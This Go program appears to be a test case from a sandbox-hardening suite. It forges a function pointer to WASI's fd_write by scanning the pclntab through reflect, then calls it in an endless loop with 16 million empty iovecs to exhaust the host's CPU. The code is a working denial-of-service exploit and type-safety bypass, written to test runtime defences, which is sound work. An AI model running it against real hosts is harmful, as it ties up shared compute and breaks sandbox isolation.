// attack: dos-wasi-iovec-spin
// category: resource-exhaustion
// tries: call the WASI fd_write wrapper through a forged funcval (found by name in the pclntab via reflect) with
// tries: 16M empty iovecs in a loop: no output, only host-side looping, outside the reach of the epoch deadline
// source: function-pointer forging via reflect/unsafe in Go ("Breaking Type Safety in Go", Costa et al., IEEE TSE 2021);
// source: "Wasm host functions must validate guest-controlled lengths" (wasmtime's own fd_write bounds iovecs by the
// source: guest memory, wasi-common IoVec guest slices); CWE-789; CWE-400
// verdict: status == timeout and output lacks "no pc" and returns within 8 s
// timeout_s: 2
package main

import (
	"fmt"
	"reflect"
)

//go:noinline
func marker() int { return 7 }

// mem is a []byte over linear memory from base, built through reflect.SliceHeader (no "unsafe" import).
func mem(base, n uintptr) []byte {
	var s []byte
	sh := (*reflect.SliceHeader)(reflect.ValueOf(&s).UnsafePointer())
	sh.Data, sh.Len, sh.Cap = base, int(n), int(n)
	return s
}

func u32(b []byte, o uintptr) uint32 {
	return uint32(b[o]) | uint32(b[o+1])<<8 | uint32(b[o+2])<<16 | uint32(b[o+3])<<24
}

func u64(b []byte, o uintptr) uint64 { return uint64(u32(b, o)) | uint64(u32(b, o+4))<<32 }

func cstr(b []byte, o uintptr) string {
	e := o
	for b[e] != 0 {
		e++
	}
	return string(b[o:e])
}

// find returns the PC of a function named want, read from the pclntab in linear memory
// (static data lies below the first heap object; wasm PCs are function index << 16).
func find(want string) uintptr {
	top := reflect.ValueOf(new([64]byte)).Pointer()
	m := mem(0, top)
	markerPC := reflect.ValueOf(marker).Pointer()
	for h := uintptr(4096); h+80 < top; h += 8 {
		if u32(m, h) != 0xfffffff1 || m[h+4] != 0 || m[h+5] != 0 || m[h+7] != 8 {
			continue
		}
		nfunc := uintptr(u64(m, h+8))
		names := h + uintptr(u64(m, h+32))
		pcln := h + uintptr(u64(m, h+64))
		var me, we uint32
		var okm, okw bool
		for i := uintptr(0); i < nfunc; i++ {
			entry, fo := u32(m, pcln+8*i), uintptr(u32(m, pcln+8*i+4))
			switch cstr(m, names+uintptr(int32(u32(m, pcln+fo+4)))) {
			case "main.marker":
				me, okm = entry, true
			case want:
				we, okw = entry, true
			}
		}
		if okm && okw {
			return uintptr(int64(markerPC) + (int64(we)-int64(me))<<16)
		}
	}
	return 0
}

type iovec struct{ buf, n uint32 }

func main() {
	pc := find("syscall.fd_write")
	if pc == 0 {
		fmt.Println("no pc")
		return
	}
	// A forged funcval: the func variable points at a struct holding the wrapper's PC.
	var fdWrite func(fd int32, iovs *iovec, n uint32, nw *uint32) uint32
	fv := &struct{ fn uintptr }{pc}
	*(*uintptr)(reflect.ValueOf(&fdWrite).UnsafePointer()) = reflect.ValueOf(fv).Pointer()
	iov := make([]iovec, 16<<20) // 16M empty iovecs
	var nw uint32
	for {
		fdWrite(1, &iov[0], uint32(len(iov)), &nw)
	}
}
